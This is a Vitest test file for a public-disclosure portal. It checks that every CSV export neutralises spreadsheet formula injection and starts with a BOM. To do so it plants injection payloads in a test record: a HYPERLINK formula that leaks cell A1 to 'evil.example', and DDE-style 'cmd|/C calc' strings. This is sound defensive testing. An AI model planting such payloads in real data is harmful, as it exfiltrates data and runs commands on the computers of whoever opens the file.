import { beforeAll, describe, expect, it } from 'vitest';
import { runSunlight } from '../helpers/cli';
import { formulaCells, parseCsv } from '../helpers/csv';
import { createToken, example, push } from '../helpers/ingest';
import { ownPortal } from '../helpers/own-portal';

/**
 * An agency (or anyone whose text reaches a record) writes spreadsheet formulas into free text; every
 * CSV the portal serves — disclosure export, daily snapshot, catalogue lists, statistics — must defuse
 * them, start with a BOM and parse as RFC 4180.
 */
const portal = ownPortal();
const base = portal.url;
const CATALOGUE_CSVS = [
  '/agencies/export.csv',
  '/laws/export.csv',
  '/powers/export.csv',
  '/powers/items/export.csv',
  '/inspection-items/export.csv',
  '/discretion/export.csv',
  '/inspectors/export.csv',
  '/statistics.csv',
];

describe('every CSV cell is formula-safe', () => {
  const csvs = new Map<string, string>();
  beforeAll(async () => {
    const token = await createToken(portal.dataDir(), 'market');
    const rec = {
      ...JSON.parse(example('disclosure.json')),
      decisionNo: '滨江市监罚〔2026〕8801号',
      violationType: '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看详情")',
      violationFacts: '+1+cmd|/C calc!A0',
      remarks: '@SUM(1+1)*cmd|/C calc',
      region: ' -2+3',
    };
    const res = await push(base(), token, JSON.stringify(rec));
    expect(res.status).toBe(201);
    const snap = await runSunlight(['snapshots', 'write'], {
      SUNLIGHT_DATA_DIR: portal.dataDir(),
      DATABASE_URL: '',
    });
    expect(snap.code, snap.stderr).toBe(0);
    const listed = (await (await fetch(`${base()}/api/v1/exports/snapshots`)).json()) as {
      snapshots: { url: string }[];
    };
    for (const url of [
      `${base()}/api/v1/exports/disclosures.csv`,
      listed.snapshots[0]!.url,
      ...CATALOGUE_CSVS.map((p) => `${base()}${p}`),
    ]) {
      const r = await fetch(url);
      expect(r.status, url).toBe(200);
      // Keep the BOM: Response.text() would strip it.
      csvs.set(url, new TextDecoder('utf-8', { ignoreBOM: true }).decode(await r.arrayBuffer()));
    }
  });

  it('the planted formulas reach the export and the snapshot, defused', () => {
    for (const [url, text] of [...csvs].slice(0, 2)) {
      expect(text, url).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""点击查看详情"")"`);
      expect(text, url).toContain("'+1+cmd|/C calc!A0");
    }
  });

  it('no cell of any CSV starts a formula, and each starts with a BOM', () => {
    for (const [url, text] of csvs) {
      expect(text.startsWith('\uFEFF'), url).toBe(true);
      const rows = parseCsv(text);
      expect(rows.length, url).toBeGreaterThan(1);
      expect(formulaCells(rows), url).toEqual([]);
    }
  });
});
